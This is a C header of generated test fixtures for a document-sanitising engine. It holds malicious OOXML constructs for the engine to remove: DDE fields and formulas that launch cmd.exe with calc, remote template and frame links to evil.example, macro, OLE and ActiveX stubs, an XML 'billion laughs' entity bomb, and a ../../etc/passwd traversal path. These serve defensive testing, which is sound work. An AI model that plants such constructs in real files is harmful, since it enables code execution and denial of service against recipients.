/* test-cdr-ooxml-data.h - generated OOXML packages for test-cdr-ooxml.c:
 * each carries one or more of the constructs the engine must remove. */

#define XMLDECL "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"

static const char *const docm_pairs[] = {
    "[Content_Types].xml",
    XMLDECL "<Types xmlns=\"" CT_NS "\">"
	    "<Default Extension=\"rels\" "
	    "ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
	    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
	    "<Default Extension=\"png\" ContentType=\"image/png\"/>"
	    "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
	    "<Override PartName=\"/word/document.xml\" "
	    "ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"
	    "<Override PartName=\"/word/settings.xml\" ContentType=\"application/"
	    "vnd.openxmlformats-officedocument.wordprocessingml.settings+xml\"/>"
	    "<Override PartName=\"/word/vbaData.xml\" "
	    "ContentType=\"application/vnd.ms-word.vbaData+xml\"/>"
	    "<Override PartName=\"/customUI/customUI14.xml\" ContentType=\"application/xml\"/>"
	    "</Types>",
    "_rels/.rels",
    XMLDECL "<Relationships xmlns=\"" PR_NS "\">"
	    "<Relationship Id=\"rId1\" Type=\"" REL
	    "/officeDocument\" Target=\"word/document.xml\"/>"
	    "<Relationship Id=\"rId2\" "
	    "Type=\"http://schemas.microsoft.com/office/2007/relationships/ui/extensibility\" "
	    "Target=\"customUI/customUI14.xml\"/>"
	    "</Relationships>",
    "word/document.xml",
    XMLDECL
    "<w:document xmlns:w=\"" W_NS "\" xmlns:r=\"" REL "\"><w:body>"
    "<w:p><w:r><w:t>Hello world 個人番号 1234 5678 9018</w:t></w:r></w:p>"
    "<w:p><w:hyperlink r:id=\"rIdH\"><w:r><w:t>click here</w:t></w:r></w:hyperlink></w:p>"
    "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
    "<w:r><w:instrText xml:space=\"preserve\"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
    "\"/k calc.exe\" </w:instrText></w:r>"
    "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
    "<w:r><w:t>result text</w:t></w:r>"
    "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
    "<w:p><w:fldSimple w:instr=\" dde excel &quot;x&quot;\"><w:r><w:t>simple result</w:t>"
    "</w:r></w:fldSimple></w:p>"
    "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
    "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
    "<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>"
    "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>DDE</w:t></w:r>"
    "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
    "<w:r><w:instrText> cmd \"/c calc\"</w:instrText></w:r>"
    "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
    "<w:p><w:r><w:object><w:control r:id=\"rIdX\"/></w:object></w:r></w:p>"
    "</w:body></w:document>",
    "word/_rels/document.xml.rels",
    XMLDECL "<Relationships xmlns=\"" PR_NS "\">"
	    "<Relationship Id=\"rIdV\" "
	    "Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" "
	    "Target=\"vbaProject.bin\"/>"
	    "<Relationship Id=\"rIdS\" Type=\"" REL "/settings\" Target=\"settings.xml\"/>"
	    "<Relationship Id=\"rIdI\" Type=\"" REL "/image\" Target=\"media/image1.png\"/>"
	    "<Relationship Id=\"rIdO\" Type=\"" REL
	    "/oleObject\" Target=\"embeddings/oleObject1.bin\"/>"
	    "<Relationship Id=\"rIdX\" Type=\"" REL "/control\" Target=\"activeX/activeX1.xml\"/>"
	    "<Relationship Id=\"rIdH\" Type=\"" REL "/hyperlink\" "
	    "Target=\"http://evil.example/x\" TargetMode=\"External\"/>"
	    "<Relationship Id=\"rIdF\" Type=\"" REL "/frame\" "
	    "Target=\"http://evil.example/frame\" TargetMode=\"External\"/>"
	    "</Relationships>",
    "word/settings.xml",
    XMLDECL "<w:settings xmlns:w=\"" W_NS "\" xmlns:r=\"" REL "\">"
	    "<w:attachedTemplate r:id=\"rIdT\"/></w:settings>",
    "word/_rels/settings.xml.rels",
    XMLDECL "<Relationships xmlns=\"" PR_NS "\">"
	    "<Relationship Id=\"rIdT\" Type=\"" REL "/attachedTemplate\" "
	    "Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>"
	    "</Relationships>",
    "word/vbaProject.bin",
    "\xd0\xcf\x11\xe0 VBA project bytes",
    "word/_rels/vbaProject.bin.rels",
    XMLDECL "<Relationships xmlns=\"" PR_NS "\">"
	    "<Relationship Id=\"rId1\" "
	    "Type=\"http://schemas.microsoft.com/office/2006/relationships/wordVbaData\" "
	    "Target=\"vbaData.xml\"/></Relationships>",
    "word/vbaData.xml",
    XMLDECL "<wne:vbaSuppData xmlns:wne=\"urn:x\"/>",
    "word/media/image1.png",
    "\x89PNG not really",
    "word/embeddings/oleObject1.bin",
    "\xd0\xcf\x11\xe0 OLE",
    "word/activeX/activeX1.xml",
    XMLDECL "<ax:ocx xmlns:ax=\"urn:ax\"/>",
    "customUI/customUI14.xml",
    XMLDECL "<customUI xmlns=\"urn:ui\" onLoad=\"AutoOpenMacro\"/>",
    NULL,
};

#define XL_NS "http://schemas.openxmlformats.org/spreadsheetml/2006/main"

static const char *const xlsm_pairs[] = {
    "[Content_Types].xml",
    XMLDECL "<Types xmlns=\"" CT_NS "\">"
	    "<Default Extension=\"rels\" "
	    "ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
	    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
	    "<Override PartName=\"/xl/workbook.xml\" "
	    "ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/>"
	    "<Override PartName=\"/xl/vbaProject.bin\" "
	    "ContentType=\"application/vnd.ms-office.vbaProject\"/>"
	    "</Types>",
    "_rels/.rels",
    XMLDECL "<Relationships xmlns=\"" PR_NS "\"><Relationship Id=\"rId1\" Type=\"" REL
	    "/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>",
    "xl/workbook.xml",
    XMLDECL "<workbook xmlns=\"" XL_NS "\" xmlns:r=\"" REL "\"><sheets>"
	    "<sheet name=\"S\" sheetId=\"1\" r:id=\"rId1\"/></sheets>"
	    "<externalReferences><externalReference r:id=\"rId3\"/></externalReferences>"
	    "</workbook>",
    "xl/_rels/workbook.xml.rels",
    XMLDECL
    "<Relationships xmlns=\"" PR_NS "\">"
    "<Relationship Id=\"rId1\" Type=\"" REL "/worksheet\" Target=\"worksheets/sheet1.xml\"/>"
    "<Relationship Id=\"rId2\" Type=\"" REL "/sharedStrings\" Target=\"sharedStrings.xml\"/>"
    "<Relationship Id=\"rId3\" Type=\"" REL "/externalLink\" "
    "Target=\"externalLinks/externalLink1.xml\"/>"
    "<Relationship Id=\"rId4\" Type=\"" REL "/connections\" Target=\"connections.xml\"/>"
    "<Relationship Id=\"rId5\" "
    "Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" "
    "Target=\"vbaProject.bin\"/>"
    "</Relationships>",
    "xl/worksheets/sheet1.xml",
    XMLDECL "<worksheet xmlns=\"" XL_NS "\"><sheetData>"
	    "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"B1\" t=\"s\"><v>1</v></c></row>"
	    "<row r=\"2\"><c r=\"A2\"><v>123456789018</v></c>"
	    "<c r=\"B2\"><f>cmd|'/c calc'!A0</f><v>0</v></c></row>"
	    "</sheetData></worksheet>",
    "xl/worksheets/_rels/sheet1.xml.rels",
    XMLDECL "<Relationships xmlns=\"" PR_NS "\"><Relationship Id=\"rId1\" Type=\"" REL
	    "/printerSettings\" Target=\"../printerSettings/printerSettings1.bin\"/>"
	    "</Relationships>",
    "xl/printerSettings/printerSettings1.bin",
    "DEVMODE",
    "xl/sharedStrings.xml",
    XMLDECL "<sst xmlns=\"" XL_NS "\"><si><t>個人番号</t></si><si><t>DDE</t></si></sst>",
    "xl/externalLinks/externalLink1.xml",
    XMLDECL "<externalLink xmlns=\"" XL_NS "\"><ddeLink ddeService=\"cmd\" "
	    "ddeTopic=\"/c calc\"/></externalLink>",
    "xl/connections.xml",
    XMLDECL "<connections xmlns=\"" XL_NS "\"><connection id=\"1\"/></connections>",
    "xl/vbaProject.bin",
    "VBA",
    NULL,
};

#define P_NS "http://schemas.openxmlformats.org/presentationml/2006/main"
#define A_NS "http://schemas.openxmlformats.org/drawingml/2006/main"

static const char *const pptx_pairs[] = {
    "[Content_Types].xml",
    XMLDECL "<Types xmlns=\"" CT_NS "\">"
	    "<Default Extension=\"rels\" "
	    "ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
	    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
	    "<Override PartName=\"/ppt/presentation.xml\" ContentType=\"application/"
	    "vnd.openxmlformats-officedocument.presentationml.presentation.main+xml\"/>"
	    "</Types>",
    "_rels/.rels",
    XMLDECL "<Relationships xmlns=\"" PR_NS "\"><Relationship Id=\"rId1\" Type=\"" REL
	    "/officeDocument\" Target=\"ppt/presentation.xml\"/></Relationships>",
    "ppt/presentation.xml",
    XMLDECL "<p:presentation xmlns:p=\"" P_NS "\"/>",
    "ppt/slides/slide1.xml",
    XMLDECL
    "<p:sld xmlns:p=\"" P_NS "\" xmlns:a=\"" A_NS "\" xmlns:r=\"" REL "\">"
    "<a:p><a:r><a:rPr><a:hlinkClick r:id=\"rId9\"/></a:rPr><a:t>slide words</a:t></a:r></a:p>"
    "</p:sld>",
    "ppt/slides/_rels/slide1.xml.rels",
    XMLDECL "<Relationships xmlns=\"" PR_NS "\"><Relationship Id=\"rId9\" Type=\"" REL
	    "/hyperlink\" Target=\"file://evil/share\" TargetMode=\"External\"/></Relationships>",
    NULL,
};

static const char *const doctype_pairs[] = {
    "[Content_Types].xml",
    XMLDECL "<Types xmlns=\"" CT_NS "\"><Override PartName=\"/word/document.xml\" "
	    "ContentType=\"application/"
	    "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>",
    "word/document.xml",
    "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">"
    "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
    "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]>"
    "<w:document xmlns:w=\"" W_NS "\"><w:body><w:p><w:r><w:t>&lol3;</w:t></w:r></w:p>"
    "</w:body></w:document>",
    NULL,
};

static const char *const no_types_pairs[] = {"word/document.xml", "<x/>", NULL};

static const char *const traversal_pairs[] = {
    "[Content_Types].xml", "<Types xmlns=\"" CT_NS "\"/>", "../../etc/passwd", "x", NULL,
};

static const char *const dup_pairs[] = {
    "[Content_Types].xml",
    "<Types xmlns=\"" CT_NS "\"/>",
    "word/document.xml",
    "<a/>",
    "WORD/Document.xml",
    "<b/>",
    NULL,
};

static const char *const xlsb_pairs[] = {
    "[Content_Types].xml",
    XMLDECL "<Types xmlns=\"" CT_NS "\"><Override PartName=\"/xl/workbook.bin\" "
	    "ContentType=\"application/vnd.ms-excel.sheet.binary.macroEnabled.main\"/></Types>",
    "xl/workbook.bin",
    "BIFF12",
    NULL,
};
